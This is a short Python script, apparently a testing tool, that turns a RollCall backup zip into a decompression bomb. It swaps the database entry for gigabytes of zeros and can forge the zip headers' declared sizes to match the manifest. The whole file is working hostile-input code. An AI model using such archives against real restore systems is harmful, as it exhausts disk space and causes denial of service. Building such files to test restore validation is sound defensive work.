#!/usr/bin/env python3
"""Rewrites a RollCall backup so its database entry inflates to SIZE_MB of zeros while
the manifest (and its recorded size and hash) is kept: a small archive that would fill
the disk if restore trusted it.

usage: make_backup_bomb.py IN.zip OUT.zip SIZE_MB honest|lying
  honest: the zip's directory declares the real inflated size
  lying:  the zip's directory (local and central headers) declares the manifest's size
"""
import json
import struct
import sys
import zipfile

src, dst, size_mb, mode = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
with zipfile.ZipFile(src) as zin:
    manifest = json.loads(zin.read("manifest.json"))
    recorded = next(e["size"] for e in manifest["entries"] if e["name"] == "rollcall.sqlite")
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename == "rollcall.sqlite":
                bomb = zipfile.ZipInfo("rollcall.sqlite")
                bomb.compress_type = zipfile.ZIP_DEFLATED
                with zout.open(bomb, "w") as w:
                    chunk = bytes(1 << 20)
                    for _ in range(size_mb):
                        w.write(chunk)
            else:
                zout.writestr(info, zin.read(info.filename))

if mode == "lying":
    data = bytearray(open(dst, "rb").read())
    name = b"rollcall.sqlite"
    # Local header: uncompressed size at +22; central directory header: at +24.
    for signature, offset, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        at = data.find(signature)
        while at >= 0:
            if data[at + name_at:at + name_at + len(name)] == name:
                struct.pack_into("<I", data, at + offset, recorded)
            at = data.find(signature, at + 4)
    open(dst, "wb").write(data)
print(recorded)
